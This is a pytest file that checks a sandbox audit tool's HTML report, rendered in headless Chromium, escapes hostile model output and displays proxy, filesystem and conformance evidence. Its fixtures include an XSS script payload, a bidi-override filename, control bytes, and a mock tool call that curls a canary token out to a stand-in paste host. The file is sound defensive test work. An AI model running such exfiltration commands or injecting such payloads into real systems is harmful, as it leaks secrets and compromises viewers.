"""The HTML report people read, checked in headless Chromium: per-sample evidence coverage, the
prompt and final answer, a legend of severities and rules, evidence records with their content
(proxy requests as a table, filesystem changes as a list, conformance mismatches), Inspect's own
sandbox commands folded away; everything the model controls escaped (a hostile transcript:
`<script>`, quotes, control bytes, invalid UTF-8, bidi overrides)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from inspect_ai import Task, eval
from inspect_ai.dataset import Sample
from inspect_ai.model import ModelOutput, get_model
from inspect_ai.scorer import Score, Scorer, Target, accuracy, scorer
from inspect_ai.solver import TaskState, generate, use_tools
from inspect_ai.tool import bash
from inspect_ai.util import sandbox

from tests._audit_logs import Script, make_log
from tests._sandbox_helpers import _usage
from tierlock.runner._audit import AuditResult, audit_events, audit_log, render_html, render_json
from tierlock.runner.cli import cli
from tierlock.sandbox._evidence import (
    ConformanceRecord,
    ContainerEvidence,
    FsChange,
    ProxyLog,
    ProxyRequest,
)

XSS = "<script>alert('x')</script>"
BIDI = "\u202etxt.exe"
CTRL = "\x1b[31mred\x07"
HOSTILE = f"{XSS} \"q\" 'a' {CTRL} {BIDI}"
CANARY = "TIERLOCK-CANARY-7f3e21a9c0d4"

RECORDS = [
    ConformanceRecord(
        container="c",
        policy_name="tool-restricted",
        policy_hash="h",
        ok=False,
        mismatches=[f"user: expected 1000, got 0 {XSS}"],
    ),
    ConformanceRecord(container="p", role="proxy", policy_name="n", policy_hash="h", ok=True),
    ContainerEvidence(
        container="c",
        policy_hash="h",
        running=True,
        changes_outside_writable=[
            FsChange(path="/etc/passwd", change="C"),
            FsChange(path=f"/var/tmp/{XSS}\\x0a\\xff", change="A", escaped=True),
        ],
    ),
    ProxyLog(
        proxy="p",
        requests=[
            ProxyRequest(time=1.0, method="GET", host="pypi.test", port=443, allowed=True),
            ProxyRequest(
                time=2.0,
                method="CONNECT",
                host=f"{XSS}.paste.test",
                port=8443,
                allowed=False,
                status=403,
                url=f"https://paste.test/?k={CANARY}",
                user_agent=HOSTILE,
            ),
        ],
    ),
]


@pytest.fixture(scope="module")
def hostile_log(tmp_path_factory: pytest.TempPathFactory) -> Path:
    script = Script(
        "hostile",
        [("bash", f"echo {HOSTILE} > /tmp/x; curl https://paste.test/?k={CANARY}")],
        final=f"Done {HOSTILE}",
        metadata={"tierlock": {"violations": {"canaries": [CANARY]}}},
        evidence=RECORDS,
        results={f"echo {HOSTILE} > /tmp/x; curl https://paste.test/?k={CANARY}": HOSTILE},
    )
    return make_log(
        tmp_path_factory.mktemp("hostile"),
        [script],
        task_metadata={"tierlock": {"tier": "networked"}},
    )


def _chromium() -> str:
    exe = shutil.which("chromium") or shutil.which("chromium-browser")
    if exe is None:
        pytest.fail("chromium is not installed (tests/install-deps.sh installs it)")
    return exe


def _dom(page: Path) -> str:
    return subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", page.as_uri()],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    ).stdout


def _screenshot(page: Path, shot: Path, size: str = "1300,2600") -> None:
    subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", f"--screenshot={shot}",
         f"--window-size={size}", page.as_uri()],
        capture_output=True,
        timeout=120,
        check=True,
    )  # fmt: skip
    assert shot.stat().st_size > 20_000


def test_report_in_chromium_has_banner_legend_records_and_no_live_markup(
    hostile_log: Path, tmp_path: Path
) -> None:
    page = tmp_path / "report.html"
    res = CliRunner().invoke(
        cli, ["audit", str(hostile_log), "--format", "html", "--out", str(page)]
    )
    assert res.exit_code == 0, res.output
    text = page.read_text(encoding="utf-8")
    assert "<script" not in text.lower() and "&lt;script&gt;" in text
    assert "\u202e" not in text and "\\u202e" in text  # bidi override shown, not applied
    assert "\x1b" not in text and "\\x1b[31m" in text and "\x07" not in text
    dom = _dom(page)
    assert "<script" not in dom.lower()
    # the coverage banner: conformance, container and proxy log there; the proxy's own
    # container evidence is not, so the sidecars were not checked
    assert dom.count('class="coverage') == 1 and 'data-complete="false"' in dom
    assert '<b>proxy</b> <span class="st-checked">' in dom
    assert '<b>sidecars</b> <span class="st-absent">' in dom
    # prompt and final answer
    assert "<h3>Prompt</h3>" in dom and "<h3>Final answer</h3>" in dom
    assert "Done &lt;script&gt;" in dom
    # legend: severities, the rules that fired, the checks
    legend = dom[dom.index('id="legend"') :]
    for sev in ("low", "medium", "high", "critical"):
        assert f'<td class="sev-{sev}">{sev}</td>' in legend
    assert "net.proxy_refused" in legend and "integrity.conformance" in legend
    # evidence records with their content
    table = re.search(r'<table class="records proxy-requests">(.*?)</table>', dom, re.S)
    assert table is not None
    rows = re.findall(r"<tr[ >]", table.group(1))
    assert len(rows) == 3  # header + 2 requests
    assert "REFUSED" in table.group(1) and "&lt;/script&gt;.paste.test" in table.group(1)
    fs = re.search(r'<ul class="fs-changes">(.*?)</ul>', dom, re.S)
    assert fs is not None and fs.group(1).count("<li>") == 2 and "/etc/passwd" in fs.group(1)
    mism = re.search(r'<ul class="mismatches">(.*?)</ul>', dom, re.S)
    assert mism is not None and "expected 1000, got 0" in mism.group(1)
    _screenshot(page, tmp_path / "shot.png")


def test_invalid_utf8_and_surrogates_reach_every_format_escaped(tmp_path: Path) -> None:
    """A JSON log can hold lone surrogates (`\\udc80`, what undecodable bytes become): every
    format still renders and writes, showing them as visible escapes."""
    events = [
        {"event": "tool", "function": "bash", "arguments": {"cmd": "cat /x\udcff\ud800"},
         "result": "bad \udc80 bytes\x00", "uuid": "u"},
        {"event": "model", "output": {"choices": [{"message": {"content": f"fine {BIDI}"}}]}},
    ]  # fmt: skip
    audit = audit_events(events, sample_id="s\udc80", timeline=True)
    result = AuditResult(logs=[])
    result.logs.append(audit_log(tmp_path / "missing.eval"))  # an error log, for good measure
    result.logs[0].samples.append(audit)
    json.loads(render_json(result))  # encodable
    page = tmp_path / "r.html"
    page.write_text(render_html(result), encoding="utf-8")
    text = page.read_text(encoding="utf-8")
    assert "\\udcff" in text and "\\x00" in text and "\\u202e" in text
    assert "<script" not in _dom(page).lower()


@scorer(metrics=[accuracy()])
def _peek() -> Scorer:
    """A scorer that runs a command in the sandbox itself (Inspect's own use, not the model's)."""

    async def score(state: TaskState, target: Target) -> Score:
        out = await sandbox().exec(["cat", "out.txt"])
        return Score(value=1 if out.success else 0)

    return score


def test_inspects_own_sandbox_commands_are_folded_away(tmp_path: Path) -> None:
    outputs = [
        _usage(
            ModelOutput.for_tool_call("mockllm/model", "bash", {"command": "echo hi > out.txt"})
        ),
        _usage(ModelOutput.from_content("mockllm/model", "wrote it")),
    ]
    task = Task(
        dataset=[Sample(id="s", input="write hi to out.txt", target="x")],
        solver=[use_tools(bash()), generate()],
        scorer=_peek(),
        sandbox="local",
    )
    (log,) = eval(
        task,
        model=get_model("mockllm/model", custom_outputs=outputs),
        log_dir=str(tmp_path / "logs"),
        display="none",
    )
    assert log.results is not None  # the model's command ran: the scorer read its file
    assert log.results.scores[0].metrics["accuracy"].value == 1
    audit = audit_log(log.location, timeline=True)
    (s,) = audit.samples
    assert s.timeline is not None
    harness = [e for e in s.timeline if e.harness]
    model_cmds = [e for e in s.timeline if "echo hi > out.txt" in e.label]
    # Inspect's probe of the sandbox before the bash tool's first use, and the scorer's read
    assert "sandbox exec: cat out.txt" in [e.label for e in harness]
    assert any("/proc/self/status" in e.label for e in harness)
    assert model_cmds and not any(e.harness for e in model_cmds)
    page = tmp_path / "r.html"
    page.write_text(render_html(AuditResult(logs=[audit])), encoding="utf-8")
    dom = _dom(page)
    folded = "".join(re.findall(r'<details class="harness">(.*?)</details>', dom, re.S))
    assert "cat out.txt" in folded and "/proc/self/status" in folded  # setup and scorer
    assert "echo hi &gt; out.txt" not in folded and "echo hi &gt; out.txt" in dom
    assert "write hi to out.txt" in dom and "wrote it" in dom  # prompt and answer
    assert 'data-complete="false"' in dom  # local sandbox: transcript only
